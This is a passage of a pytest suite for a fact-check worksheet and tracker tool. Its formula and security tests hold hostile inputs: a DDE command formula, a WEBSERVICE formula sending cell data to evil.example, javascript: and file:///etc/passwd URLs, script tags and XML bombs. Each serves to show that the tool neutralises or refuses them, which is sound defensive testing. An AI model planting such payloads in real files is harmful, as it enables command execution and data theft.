    path.write_text("claims:\n  - claim: no\n    claimant: yes\n    priority: off\n"
                    "  - claim: 2021-12-07\n    id: 007\n  - claim: null_island\n")
    claims = load_claims(path).claims
    assert [(c.claim, c.claimant, c.priority) for c in claims[:1]] == [("no", "yes", "off")]
    assert claims[1].claim == "2021-12-07"
    assert claims[2].claim == "null_island"


def test_quote_not_in_the_article_warns_and_builds(tmp_path: Path) -> None:
    claims = write_claims(tmp_path / "c.yaml", [
        {"claim": "The moon is cheese.", "quote": "the moon is made of green cheese"}])
    result = cli("build", ARTICLE, claims, "--out", tmp_path / "out")
    done(result)
    assert f"warning: {claims}:" in result.stderr and "is not in the article" in result.stderr
    assert "0 found in the article" in result.stdout


# ---------------------------------------------------------------------------- formulas

FORMULAS = ["=1+1", "=HYPERLINK(\"http://evil.example\",\"click\")", "+1 555 0100",
            "-2 degrees", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"]


def _formula_inputs(tmp_path: Path) -> tuple[Path, Path]:
    article = tmp_path / "a.md"
    article.write_text("# Formulas\n\n=SUM(A1:A9) was the total reported.\n\n"
                       "@everyone was told on Monday.\n\n<script>alert(1)</script> tag text.\n")
    claims = write_claims(tmp_path / "c.json", [
        {"claim": f, "claimant": f, "type": f} for f in FORMULAS] + [
        {"claim": "\t=tab first", "quote": "=SUM(A1:A9) was the total"},
        {"claim": "\r=cr first", "quote": "@everyone was told"}])
    return article, claims


def test_formula_text_stays_text_in_xlsx_and_docx(tmp_path: Path) -> None:
    article, claims = _formula_inputs(tmp_path)
    out = tmp_path / "out"
    done(cli("build", article, claims, "--out", out))
    worksheet_path, tracker_path = output_paths(out, "formulas")
    ws = openpyxl.load_workbook(tracker_path)[columns.CLAIMS_SHEET]
    for row, text in enumerate(FORMULAS, 2):
        for col in ("claim", "type", "claimant"):
            cell = ws[f"{letter(col)}{row}"]
            assert (cell.value, cell.data_type) == (text, "s"), cell.coordinate
    # Leading whitespace (tab, CR) is stripped from claims; what follows stays text.
    assert ws[f"{letter('claim')}8"].value == "=tab first"
    assert ws[f"{letter('passage')}8"].value.startswith("=SUM(A1:A9)")
    assert ws[f"{letter('passage')}8"].data_type == "s"
    assert ws[f"{letter('passage')}9"].value.startswith("@everyone")
    rows = claims_cells(tracker_path)  # calamine reads back the text, not a result
    assert [r[1] for r in rows[1:7]] == FORMULAS
    # No field in the Word file holds user text: only the page numbers the tool adds.
    with zipfile.ZipFile(worksheet_path) as archive:
        xml = "".join(archive.read(n).decode("utf-8") for n in archive.namelist()
                      if n.endswith(".xml"))
    instructions = re.findall(r'w:instr="([^"]*)"', xml) + re.findall(
        r"<w:instrText[^>]*>([^<]*)<", xml)
    assert all(i.strip().split()[0] in ("PAGE", "NUMPAGES") for i in instructions), instructions
    assert "<w:ffData" not in xml  # no form fields either
    text = docx_text(worksheet_path)
    assert all(f in text for f in FORMULAS)


REVIEWER_FORMULAS = {"evidence": "=HYPERLINK(\"http://evil.example\")", "notes": "@SUM(1)",
                     "reviewer": "+Ana", "checked_on": "-2021"}


@pytest.fixture
def formula_tracker(tracker: Path) -> Path:
    """The example's tracker with formula-like text typed into reviewer cells (as text)."""
    wb = openpyxl.load_workbook(tracker)
    ws = wb[columns.CLAIMS_SHEET]
    for row in (2, 3):
        for key, value in REVIEWER_FORMULAS.items():
            cell = ws[f"{letter(key)}{row}"]
            cell.value = value
            cell.data_type = "s"
        ws[f"{letter('notes')}3"].value = "<script>alert('x')</script> & <b>bold</b>"
        ws[f"{letter('notes')}3"].data_type = "s"
    ws[f"{letter('claim')}4"].value = "\t=tab"
    ws[f"{letter('claim')}4"].data_type = "s"
    wb.save(tracker)
    return tracker


@pytest.mark.parametrize("command", [["status", "--format", "csv"],
                                     ["export", "--format", "csv"]], ids=["status", "export"])
def test_formula_text_is_escaped_in_csv(formula_tracker: Path, command: list[str]) -> None:
    import csv
    import io

    result = cli(command[0], formula_tracker, *command[1:])
    done(result)
    records = list(csv.DictReader(io.StringIO(result.stdout)))
    assert records[0]["evidence"] == "'" + REVIEWER_FORMULAS["evidence"]
    assert records[0]["notes"] == "'@SUM(1)"
    assert records[0]["reviewer"] == "'+Ana"
    assert records[0]["checked_on"] == "'-2021"
    for record in records:
        for value in record.values():
            assert not value.startswith(FORMULA_PREFIXES), value


def test_formula_and_markup_text_is_inert_in_html_and_the_report(formula_tracker: Path,
                                                                  tmp_path: Path) -> None:
    result = cli("status", formula_tracker, "--format", "html")
    done(result)
    html = result.stdout
    assert "<script" not in html and "<b>bold" not in html
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; &amp; &lt;b&gt;bold" in html
    assert "=HYPERLINK(&quot;http://evil.example&quot;)" in html
    report = tmp_path / "report.docx"
    done(cli("export", formula_tracker, "--format", "report", "--out", report))
    with zipfile.ZipFile(report) as archive:
        xml = archive.read("word/document.xml").decode("utf-8")
    instructions = re.findall(r'w:instr="([^"]*)"', xml) + re.findall(
        r"<w:instrText[^>]*>([^<]*)<", xml)
    assert all(i.strip().split()[0] in ("PAGE", "NUMPAGES") for i in instructions)
    assert "evil.example" not in " ".join(external_links(report))


# ---------------------------------------------------------------------------- trackers


def _status_json(path: Path, *extra: str) -> tuple[Result, dict[str, Any]]:
    result = cli("status", path, "--format", "json", *extra)
    return result, (json.loads(result.stdout) if result.exit_code in (0, 1) else {})


def _verdicts(summary: dict[str, Any]) -> dict[str, str | None]:
    return {c["id"]: c["verdict"] for c in summary["claims"]}


def test_claims_sheet_renamed_in_case_still_reads(tracker: Path) -> None:
    wb = openpyxl.load_workbook(tracker)
    wb[columns.CLAIMS_SHEET].title = " CLAIMS "
    wb.save(tracker)
    result, summary = _status_json(tracker)
    done(result)
    assert summary["total"] == 16


@pytest.mark.parametrize("change", ["renamed", "deleted"])
def test_claims_sheet_renamed_or_deleted(tracker: Path, change: str) -> None:
    wb = openpyxl.load_workbook(tracker)
    if change == "renamed":
        wb[columns.CLAIMS_SHEET].title = "Feuille1"
    else:
        del wb[columns.CLAIMS_SHEET]
    wb.save(tracker)
    refused(cli("status", tracker), "tracker.xlsx", "no sheet called Claims; sheets are: ")


def test_header_row_deleted(tracker: Path) -> None:
    wb = openpyxl.load_workbook(tracker)
    wb[columns.CLAIMS_SHEET].delete_rows(1)
    wb.save(tracker)
    refused(cli("status", tracker), "tracker.xlsx Claims!A1: no header row with ID and Claim")


def test_header_row_moved_down_and_columns_renamed_and_reordered(tmp_path: Path) -> None:
    headers = ["Notes", "Verdict", "claim", "  id ", "Date", "¶", "Status", "My own column"]
    path = handmade(tmp_path / "t.xlsx", headers, [
        ["=see note", "true", "Sky is blue", "C1", "2024-03-05", "2", "done", "kept"],
        ["", "Flase", "Grass is red", "C2", "", "x", "", ""],
    ], top=4)
    result, summary = _status_json(path)
    done(result)
    assert _verdicts(summary) == {"C1": "True", "C2": "Flase"}
    assert summary["claims"][0]["notes"] == "=see note"
    assert summary["claims"][0]["checked_on"] == "2024-03-05"
    cells = {p["cell"]: p["code"] for p in summary["problems"]}
    assert cells["Claims!B6"] == "unknown-verdict"  # the cell as the reviewer sees it
    assert cells["Claims!F6"] == "not-a-number"


def test_rows_sorted_and_filtered(tracker: Path) -> None:
    cells = {f"{letter('verdict')}{r}": v for r, v in ((2, "True"), (5, "False"), (9, "Mixed"))}
    edit(tracker, cells)
    wb = openpyxl.load_workbook(tracker)
    ws = wb[columns.CLAIMS_SHEET]
    values = [[c.value for c in row] for row in ws.iter_rows(min_row=2, max_row=17)]
    for r, row in enumerate(reversed(values), 2):  # sorted Z→A by ID order
        for c, value in enumerate(row, 1):
            ws.cell(r, c).value = value
            if isinstance(value, str):
                ws.cell(r, c).data_type = "s"
    for r in (3, 4, 10):
        ws.row_dimensions[r].hidden = True  # a filter hides rows; they are still claims
    wb.save(tracker)
    result, summary = _status_json(tracker)
    done(result)
    assert [c["id"] for c in summary["claims"]] == [f"C{i}" for i in range(16, 0, -1)]
    verdicts = {k: v for k, v in _verdicts(summary).items() if v}
    assert verdicts == {"C1": "True", "C4": "False", "C8": "Mixed"}


def test_merged_cells_read_at_their_top_left(tracker: Path) -> None:
    wb = openpyxl.load_workbook(tracker)
    ws = wb[columns.CLAIMS_SHEET]
    ws.merge_cells(f"{letter('verdict')}2:{letter('verdict')}4")
    ws[f"{letter('verdict')}2"] = "True"
    ws.merge_cells(f"{letter('evidence')}5:{letter('notes')}5")
    ws[f"{letter('evidence')}5"] = "Across two columns"
    wb.save(tracker)
    result, summary = _status_json(tracker)
    done(result)
    verdicts = _verdicts(summary)
    assert (verdicts["C1"], verdicts["C2"], verdicts["C3"]) == ("True", None, None)
    assert summary["claims"][3]["evidence"] == "Across two columns"
    assert summary["claims"][3]["notes"] is None


def test_formulas_in_verdict_cells_are_never_evaluated(tracker: Path) -> None:
    """A formula is not run: one without a stored result reads as empty; the result Excel
    stored with one is read like a typed value, and reported when it is not a verdict."""
    wb = openpyxl.load_workbook(tracker)
    ws = wb[columns.CLAIMS_SHEET]
    ws[f"{letter('verdict')}2"] = '=IF(1,"True")'
    ws[f"{letter('verdict')}3"] = "=1+1"
    ws[f"{letter('notes')}4"] = '=WEBSERVICE("http://evil.example/"&A4)'
    wb.save(tracker)
    # Excel stores the formula's last result beside it: give the second one a result.
    with zipfile.ZipFile(tracker) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    sheet, n = re.subn(r"(<f>1\+1</f>)<v\s*/?>(?:</v>)?", r"\1<v>2</v>", sheet)
    assert n == 1
    rezip(tracker, tracker.with_name("cached.xlsx"), replace={"xl/worksheets/sheet1.xml": sheet})
    result, summary = _status_json(tracker.with_name("cached.xlsx"), "--strict")
    assert result.exit_code == 1, result.output
    verdicts = _verdicts(summary)
    assert verdicts["C1"] is None and verdicts["C2"] == "2"
    assert summary["claims"][2]["notes"] is None
    assert any(p["cell"] == f"Claims!{letter('verdict')}3" and p["code"] == "unknown-verdict"
               for p in summary["problems"])
    assert "1 problem(s)" in result.stderr or "problem(s) in" in result.stderr


def test_status_strict_exit_codes(tracker: Path) -> None:
    done(cli("status", tracker, "--strict", "--format", "md"))
    edit(tracker, {f"{letter('status')}2": "Done"})  # Done without a verdict: a problem
    result = cli("status", tracker, "--strict", "--format", "md")
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "problem(s) in" in result.stderr


def test_xlsx_and_ods_side_by_side(tmp_path: Path) -> None:
    """Build merges the most recently saved of the two, says which, and loses neither."""
    build(ARTICLE, CLAIMS, tmp_path)
    _, xlsx = output_paths(tmp_path, SLUG)
    edit(xlsx, {f"{letter('verdict')}2": "False"})
    rows = claims_cells(xlsx)
    rows[1][8] = "True"  # the reviewer's later work, saved as .ods
    ods_path = ods(xlsx.with_suffix(".ods"), {columns.CLAIMS_SHEET: [
        [str(v) if v != "" else "" for v in row] for row in rows]})
    os.utime(xlsx, (time.time() - 600, time.time() - 600))
    ods_bytes, xlsx_bytes = ods_path.read_bytes(), xlsx.read_bytes()
    result = cli("build", ARTICLE, CLAIMS, "--out", tmp_path)
    done(result)
    assert f"merged the reviewer's work from {ods_path}" in result.stdout
    assert f"warning: {xlsx}: not merged: {ods_path} was saved more recently" in result.stderr
    assert ods_path.read_bytes() == ods_bytes
    backups = list(tmp_path.glob(f"{SLUG}-tracker.backup-*.xlsx"))
    assert [b.read_bytes() for b in backups] == [xlsx_bytes]
    assert read_tracker(xlsx).rows[0].verdict == "True"


# ---------------------------------------------------------------------------- security


def test_unsafe_source_urls_are_refused_before_anything_is_written(tmp_path: Path) -> None:
    claims = tmp_path / "c.yaml"
    claims.write_text("claims:\n  - claim: a\n    sources:\n      - title: click\n"
                      "        url: javascript:alert(document.cookie)\n"
                      "      - JaVaScRiPt:alert(1)\n")
    out = tmp_path / "out"
    result = cli("build", ARTICLE, claims, "--out", out)
    refused(result, f"{claims}:5:14: claims[0].sources[0].url: not an http, https or mailto",
            f"{claims}:6:9: claims[0].sources[1]")
    assert not out.exists()


def test_built_files_link_only_http_https_and_mailto(tmp_path: Path) -> None:
    claims = write_claims(tmp_path / "c.yaml", [
        {"claim": "Two hours", "quote": "two hours and two minutes",
         "sources": ["https://example.org/a", "mailto:desk@example.org",
                     {"title": "Plain", "url": "http://example.org/b"}]}],
        article={"url": "https://example.org/article"})
    out = tmp_path / "out"
    done(cli("build", ARTICLE, claims, "--out", out))
    for path in output_paths(out, SLUG):
        links = external_links(path)
        assert links and all(t.startswith(("http://", "https://", "mailto:")) for t in links)


def test_unsafe_url_typed_in_a_tracker_never_becomes_a_link(tracker: Path,
                                                            tmp_path: Path) -> None:
    url_col = "C"  # Sources sheet: Claim ID, Source, URL
    edit(tracker, {f"{url_col}2": "javascript:alert(1)", f"{url_col}3": "file:///etc/passwd",
                   f"{url_col}4": "data:text/html,<script>x</script>"},
         sheet=columns.SOURCES_SHEET)
    report = tmp_path / "report.docx"
    done(cli("export", tracker, "--format", "report", "--out", report))
    links = external_links(report)
    assert all(t.startswith(("http://", "https://", "mailto:")) for t in links), links
    # Rebuilt over it, the new tracker carries the text but links only safe URLs.
    out = tmp_path / "out"
    out.mkdir()
    shutil.copy(tracker, output_paths(out, SLUG)[1])
    done(cli("build", ARTICLE, CLAIMS, "--out", out))
    links = external_links(output_paths(out, SLUG)[1])
    assert links and all(t.startswith(("http://", "https://", "mailto:")) for t in links), links


def test_xml_bomb_in_a_word_article_is_harmless(tmp_path: Path) -> None:
    document = docx.Document()
    document.add_paragraph("MARK The budget grew by four percent in 2023.")
    document.save(str(tmp_path / "plain.docx"))
    bomb = xml_bomb(tmp_path / "plain.docx", tmp_path / "bomb.docx", "word/document.xml",
                    "MARK")
    started = time.monotonic()
    try:
        article = load_article(bomb)
    except ArticleError as exc:  # refusing it is as good as not expanding it
        assert "bomb.docx" in str(exc)
    else:
        assert len(article.text) < 1000
    assert time.monotonic() - started < 5


def test_article_urls_other_than_http_are_refused() -> None:
    for source in ("file:///etc/passwd", "javascript:alert(1)", "data:text/html,x"):
        refused(cli("check", source, CLAIMS), "only http and https")


# ---------------------------------------------------------------------------- subprocess


def _run(*args: object, cwd: Path = ROOT) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run([sys.executable, "-m", "worksheet", *map(str, args)], cwd=cwd,
                          capture_output=True, text=True, timeout=120, env=env, check=False)


@pytest.mark.parametrize(("args", "code", "needle"), [
    (["status", "missing.xlsx"], 2, "error: missing.xlsx: no such file"),
    (["check", "examples/putin-biden/article.md", "bad.yaml"], 2,
     "error: bad.yaml:3:1: malformed YAML"),
    (["build", "missing.md", "x.yaml"], 2, "error: missing.md: no such file"),
    (["status", "--bogus"], 2, "No such option"),
], ids=["status-missing", "check-bad-yaml", "build-missing", "usage"])
def test_real_process_exit_codes(tmp_path: Path, args: list[str], code: int,
                                 needle: str) -> None:
    (tmp_path / "bad.yaml").write_text("claims:\n  - claim: [unclosed\n")
    shutil.copytree(ROOT / "examples", tmp_path / "examples")
    proc = _run(*args, cwd=tmp_path)
    assert proc.returncode == code, proc.stderr
    assert needle in proc.stderr and "Traceback" not in proc.stderr + proc.stdout


def test_real_process_debug_shows_the_traceback(tmp_path: Path) -> None:
    proc = _run("--debug", "status", tmp_path / "missing.xlsx")
    assert proc.returncode != 0 and "Traceback" in proc.stderr


def test_real_process_build_then_status(tmp_path: Path) -> None:
    proc = _run("build", ARTICLE, CLAIMS, "--out", tmp_path)
    assert proc.returncode == 0, proc.stderr
    proc = _run("status", output_paths(tmp_path, SLUG)[1], "--format", "csv")
    assert proc.returncode == 0 and proc.stdout.startswith("id,claim,")
    no_temps(tmp_path)


# ---------------------------------------------------------------------------- helpers' own


def test_base_rows_write_and_read_back(tmp_path: Path) -> None:
    """The fixture helpers this file leans on do what they say (so a pass means something)."""
    path = write_fresh(tmp_path / "t.xlsx", base_rows(3))
    assert [r.id for r in read_tracker(path).rows] == ["C1", "C2", "C3"]
    assert load_scale("default").labels[0] == "True"
    with pytest.raises(OutputError):
        files.write_text_atomic(tmp_path / "t.xlsx" / "x", "y")


# ------------------------------------------------- the desk: manifests and folders (issue 11)


@pytest.mark.parametrize(("name", "content", "needle"), [
    ("gone.yaml", None, "gone.yaml: no such file"),
    ("desk.yaml", "articles:\n  - article: a.md\n    article: b.md\n", "desk.yaml:3:5"),
    ("desk.yaml", "- article: a.md\n  claims: c.yaml\n  colour: red\n", "unknown key 'colour'"),
    ("desk.yaml", "articles: {article: a.md}\n", "desk.yaml:1:11: articles:"),
    ("desk.json", '{"articles": [{"article": "a.md"}]}', "articles[0].claims: required"),
    ("desk.csv", "article,claims,colour\na.md,c.yaml,red\n", "desk.csv:1: unknown column"),
    ("desk.csv", "article,claims\na.md,c.yaml,x,y\n,\n", None),
    ("desk.csv", "article,claims,paper\na.md,c.yaml,a3\n", "desk.csv:2: paper:"),
    ("desk.yaml", b"\xff\xfe\x00\x00junk", "desk.yaml"),
    ("empty", "folder", "holds no name.claims.yaml"),
])
def test_bad_manifest_is_refused_whole(tmp_path: Path, name: str, content: Any,
                                       needle: str | None) -> None:
    manifest = tmp_path / name
    if content == "folder":
        manifest.mkdir()
    elif isinstance(content, bytes):
        manifest.write_bytes(content)
    elif content is not None:
        manifest.write_text(content, encoding="utf-8")
    out = tmp_path / "out"
    result = cli("build", "--manifest", manifest, "--out", out)
    if needle is None:  # a well-formed manifest whose article is missing: that entry fails
        assert result.exit_code == 2 and "a.md: no such file" in result.stderr
        assert result.stdout.strip().endswith("0 of 1 articles built; 1 failed")
    else:
        refused(result, needle)
    assert not out.exists() or not any(out.iterdir())


def test_status_of_a_folder_without_trackers_is_refused(tmp_path: Path) -> None:
    handmade(tmp_path / "budget.xlsx", ["ID", "Claim"], [["1", "not a tracker"]])
    refused(cli("status", tmp_path), f"{tmp_path}: holds no tracker this tool wrote")


def test_status_of_a_desk_lists_hostile_trackers_and_counts_the_rest(tmp_path: Path) -> None:
    good = write_fresh(tmp_path / "good-tracker.xlsx")
    rezip(good, tmp_path / "macro-tracker.xlsx", add={"xl/vbaProject.bin": b"\x00"})
    (tmp_path / "bomb-tracker.xlsx").write_bytes(zip_of({"xl/workbook.xml": LAUGHS * 2}))
    (tmp_path / "fake-tracker.ods").write_bytes(OLE2 + b"\x00" * 600)
    result = cli("status", tmp_path, "--format", "json")
    done(result)
    data = json.loads(result.stdout)
    assert data["trackers"] == 1 and data["articles"][0]["file"] == str(good)
    reasons = {Path(u["file"]).name: u["reason"] for u in data["unreadable"]}
    assert set(reasons) == {"macro-tracker.xlsx", "bomb-tracker.xlsx", "fake-tracker.ods"}
    assert "macros" in reasons["macro-tracker.xlsx"]
    assert "password-protected or an old .xls" in reasons["fake-tracker.ods"]
    lines = [line for line in result.stderr.splitlines() if line]
    assert len(lines) == 3 and all(line.startswith("warning: ") for line in lines)


# ---------------------------------------------------------------------------- worksheets
# A filled worksheet given to collect, status or export: one located line each, exit 2,
# and the tracker byte-for-byte as it was.

OTHER_ARTICLE = """---
title: The Sky Report
author: A. N. Other
date: 2024-01-02
---

The sky was green over the city on Tuesday, the weather office said.
"""


@pytest.fixture(scope="module")
def worksheet_desk(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The example's worksheet and tracker; another article's worksheet; one with a
    claim the tracker lacks."""
    from worksheet_filler import ClaimFill, fill

    folder = tmp_path_factory.mktemp("worksheets")
    ours = build(ARTICLE, CLAIMS, folder / "ours")
    (folder / "sky.md").write_text(OTHER_ARTICLE)
    write_claims(folder / "sky.yaml", [{"id": "C1", "claim": "The sky was green.",
                                        "quote": "The sky was green"}])
    other = build(folder / "sky.md", folder / "sky.yaml", folder / "other").worksheet
    extra = folder / "extra.yaml"
    extra.write_text(CLAIMS.read_text() + "  - id: C17\n    claim: A claim added later.\n")
    newer = build(ARTICLE, extra, folder / "newer").worksheet
    filled = folder / "filled.docx"
    fill(ours.worksheet, filled, {"C1": ClaimFill(verdicts=["True"])})
    return {"worksheet": ours.worksheet, "tracker": ours.tracker, "other": other,
            "newer": newer, "filled": filled}


def _edited_ids(src: Path, dst: Path) -> Path:
    """The worksheet with C2's and C3's headings renamed, as a reviewer might."""
    from worksheet_filler import edit_document, w

    def rename(body: Any) -> None:
        for t in body.iter(w("t")):
            for old in ("C2 ·", "C3 ·"):
                if t.text and t.text.startswith(old):
                    t.text = t.text.replace(old, old.replace(" ·", "b ·"), 1)

    edit_document(src, dst, rename)
    return dst


def _encrypted_odt(dst: Path) -> Path:
    manifest = ('<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:'
                'manifest:1.0"><manifest:file-entry manifest:full-path="content.xml">'
                '<manifest:encryption-data manifest:checksum="x"/></manifest:file-entry>'
                '</manifest:manifest>')
    dst.write_bytes(zip_of({"mimetype": "application/vnd.oasis.opendocument.text",
                            "content.xml": b"\x93\x11 encrypted bytes",
                            "META-INF/manifest.xml": manifest}))
    return dst


def _bad_worksheet(tmp_path: Path, case: str, desk: dict[str, Path]) -> tuple[Path, str]:
    """The bad worksheet of a matrix row, and what its one error line must say."""
    path = tmp_path / f"{case}.docx"
    if case == "other-article":
        shutil.copy(desk["other"], path)
        return path, f"{path.name} cover: is the worksheet of 'The Sky Report', not of"
    if case == "unrelated":
        document = docx.Document()
        document.add_heading("C1 · Minutes", 1)
        document.save(str(path))
        return path, "holds no claim sections of a fact-check worksheet"
    if case == "damaged":
        path.write_bytes(desk["worksheet"].read_bytes()[:5000])
        return path, "is a damaged document"
    if case == "password":
        path.write_bytes(OLE2 + bytes(2000))
        return path, "is password-protected or an old Word .doc file"
    if case == "password-odt":
        return _encrypted_odt(tmp_path / "locked.odt"), "locked.odt: is password-protected"
    if case == "ids-edited":
        return _edited_ids(desk["worksheet"], path), (
            f"{path.name} C2: the heading's ID was changed to 'C2b'")
    if case == "heading-deleted":
        from worksheet_filler import edit_document, w

        def delete_c3_heading(body: Any) -> None:
            heading = next(p for p in body.iter(w("p"))
                           if any(b.get(w("name")) == "ws_c_C3"
                                  for b in p.iter(w("bookmarkStart"))))
            body.remove(heading)

        edit_document(desk["worksheet"], path, delete_c3_heading)
        return path, f"{path.name} C2: the section of C2 holds 2 claims' verdict tables"
    if case == "unknown-claim":
        shutil.copy(desk["newer"], path)
        return path, f"{path.name} C17: C17 is not a claim in the tracker"
    if case == "bomb":
        declared_bomb(desk["worksheet"], path)
        return path, "more than the 1 GB limit"
    if case == "lock-file":
        path = tmp_path / "~$worksheet.docx"
        path.write_bytes(LOCK)
        return path, "lock file"
    if case == "tracker-as-worksheet":
        return desk["tracker"], "is a tracker, not a worksheet"
    raise AssertionError(case)


WORKSHEET_CASES = ["other-article", "unrelated", "damaged", "password", "password-odt",
                   "ids-edited", "heading-deleted", "unknown-claim", "bomb", "lock-file",
                   "tracker-as-worksheet"]


@pytest.mark.parametrize("case", WORKSHEET_CASES)
def test_bad_worksheet_for_collect(tmp_path: Path, worksheet_desk: dict[str, Path],
                                   case: str) -> None:
    tracker = Path(shutil.copy(worksheet_desk["tracker"], tmp_path / "tracker.xlsx"))
    bad, message = _bad_worksheet(tmp_path, case, worksheet_desk)
    good = Path(shutil.copy(worksheet_desk["filled"], tmp_path / "good.docx"))
    before = snapshot(tmp_path)
    result = cli("collect", good, bad, "--into", tracker)
    refused(result, message)
    if case == "ids-edited":
        assert "C3: the heading's ID was changed to 'C3b'" in result.stderr
    assert snapshot(tmp_path) == before
    no_temps(tmp_path)


@pytest.mark.parametrize("case", ["unrelated", "damaged", "password", "password-odt", "bomb"])
@pytest.mark.parametrize("command", ["status", "export"])
def test_bad_worksheet_for_status_and_export(tmp_path: Path, worksheet_desk: dict[str, Path],
                                             case: str, command: str) -> None:
    bad, message = _bad_worksheet(tmp_path, case, worksheet_desk)
    out = tmp_path / "out.json"
    args = ["status", bad, "--format", "json"] if command == "status" else [
        "export", bad, "--format", "json", "--out", out]
    refused(cli(*args), message)
    assert not out.exists()


def test_collect_into_a_csv_is_refused(tmp_path: Path, worksheet_desk: dict[str, Path]) -> None:
    csv_tracker = tmp_path / "tracker.csv"
    csv_tracker.write_text("ID,Claim\nC1,x\n")
    refused(cli("collect", worksheet_desk["filled"], "--into", csv_tracker),
            "collect writes the whole tracker")
    assert csv_tracker.read_text() == "ID,Claim\nC1,x\n"


# ---------------------------------------------------------------------------- merge, diff


def _copy(tracker: Path, name: str, cells: dict[str, Any] | None = None) -> Path:
    """A reviewer's copy of ``tracker`` beside it, with ``cells`` typed in."""
    return edit(tracker, cells or {f"{letter('verdict')}2": "True"},
                out=tracker.with_name(name))


def _formula(tracker: Path, name: str) -> Path:
    wb = openpyxl.load_workbook(tracker)
    wb[columns.CLAIMS_SHEET][f"{letter('verdict')}3"] = '=IF(1,"True","False")'
    wb.save(tracker.with_name(name))
    return tracker.with_name(name)


def _ods_formula(tracker: Path, name: str) -> Path:
    """An .ods copy whose Verdict cell C2 holds a formula (its value computed, not typed)."""
    path = ods(tracker.with_name(name), {columns.CLAIMS_SHEET: [
        ["ID", "Claim", "Verdict"], ["C1", "x", "True"]]})
    with zipfile.ZipFile(path) as archive:
        content = archive.read("content.xml").decode()
    typed = '<table:table-cell office:value-type="string"><text:p>True'
    computed = ('<table:table-cell table:formula="of:=&quot;True&quot;" '
                'office:value-type="string"><text:p>True')
    rezip(path, path.with_suffix(".tmp"), {"content.xml": content.replace(typed, computed)})
    return path.with_suffix(".tmp").replace(path)


def _other_article(tracker: Path, name: str) -> Path:
    return edit(tracker, {"B1": "Another article"}, sheet=columns.ABOUT_SHEET,
                out=tracker.with_name(name))


def _locked(tracker: Path, name: str) -> Path:
    path = _copy(tracker, name)
    path.with_name("~$" + name).write_bytes(LOCK)
    return path


def _csv(tracker: Path, name: str, text: str) -> Path:
    path = tracker.with_name(name)
    path.write_text(text, encoding="utf-8")
    return path


#: (case, how to make the bad copy from the tracker, what the one line says).
MERGE_CASES: list[tuple[str, Any, str]] = [
    ("copy-is-tracker", lambda t: t, "is the tracker itself"),
    ("formula-in-verdict", lambda t: _formula(t, "f.xlsx"),
     f"f.xlsx Claims!{letter('verdict')}3: holds a formula"),
    ("formula-in-ods", lambda t: _ods_formula(t, "f.ods"), "f.ods Claims!C2: holds a formula"),
    ("excel-lock-beside", lambda t: _locked(t, "ana.xlsx"), "is open in a spreadsheet"),
    ("empty-file", lambda t: _csv(t, "empty.csv", ""), "is an empty file"),
    ("no-claims", lambda t: _csv(t, "header.csv", "ID,Claim,Verdict\n"), "holds no claims"),
    ("unrelated", lambda t: handmade(t.with_name("budget.xlsx"), ["Item", "Cost"], [["a", 1]]),
     "is not a tracker copy"),
    ("other-article", lambda t: _other_article(t, "other.xlsx"), "another article"),
    ("unknown-id", lambda t: _copy(t, "stray.xlsx", {f"{letter('id')}2": "C99"}),
     f"stray.xlsx Claims!{letter('id')}2: C99 is not a claim in the tracker"),
    ("duplicate-id", lambda t: _copy(t, "dup.xlsx", {f"{letter('id')}3": "C1"}),
     "ID C1 appears twice"),
    ("the-lock-file-itself", lambda t: _csv(t, "~$ana.xlsx", "x"), "lock file"),
    ("entity-in-workbook-xml", lambda t: _entity_in_workbook(t, "ent.xlsx"),
     "ent.xlsx: its XML declares a DTD or entities"),
]


def _entity_in_workbook(tracker: Path, name: str) -> Path:
    """A copy whose workbook part declares one harmless entity (calamine reads it)."""
    with zipfile.ZipFile(tracker) as archive:
        xml = archive.read("xl/workbook.xml").decode("utf-8")
    body = xml.split("?>", 1)[1] if xml.startswith("<?xml") else xml
    doctype = '<?xml version="1.0"?><!DOCTYPE workbook [<!ENTITY x "x">]>'
    return rezip(tracker, tracker.with_name(name), replace={"xl/workbook.xml": doctype + body})


def test_merge_refuses_a_csv_as_the_tracker(tracker: Path) -> None:
    desk = _csv(tracker, "desk.csv", "ID,Claim,Verdict\nC1,x,True\n")
    ana = _copy(tracker, "ana.xlsx")
    before = snapshot(tracker.parent)
    refused(cli("merge", desk, ana), "desk.csv: a CSV holds only the Claims sheet")
    assert snapshot(tracker.parent) == before


@pytest.mark.parametrize(("case", "make", "message"), MERGE_CASES,
                         ids=[c[0] for c in MERGE_CASES])
def test_merge_refuses_a_bad_copy(tracker: Path, case: str, make: Any, message: str) -> None:
    """One located line, exit 2, the tracker and the folder exactly as they were."""
    bad = make(tracker)
    before = snapshot(tracker.parent)
    refused(cli("merge", tracker, bad), message)
    assert snapshot(tracker.parent) == before
    no_temps(tracker.parent)


def test_merge_refuses_the_same_copy_twice(tracker: Path) -> None:
    ana = _copy(tracker, "ana.xlsx")
    before = snapshot(tracker.parent)
    refused(cli("merge", tracker, ana, tracker.parent / "." / "ana.xlsx"), "is given twice")
    assert snapshot(tracker.parent) == before


@pytest.mark.parametrize(("name", "content", "message"), [
    c for c in TRACKER_CASES if c[0] not in ("macros.xlsm",)], ids=[
    c[0] for c in TRACKER_CASES if c[0] not in ("macros.xlsm",)])
@pytest.mark.parametrize("command", ["merge-tracker", "merge-copy", "diff"])
def test_merge_and_diff_refuse_bad_files(tmp_path: Path, example: Path, command: str,
                                         name: str, content: bytes | None,
                                         message: str) -> None:
    bad = make_file(tmp_path, name, content, example)
    good = Path(shutil.copy(example, tmp_path / "good.xlsx"))
    args = {"merge-tracker": ["merge", bad, good], "merge-copy": ["merge", good, bad],
            "diff": ["diff", good, bad, "--out", tmp_path / "d.md"]}[command]
    if command == "merge-copy" and name == "empty.xlsx":
        message = "is an empty file"
    before = snapshot(tmp_path)
    refused(cli(*args), name, message)
    assert snapshot(tmp_path) == before
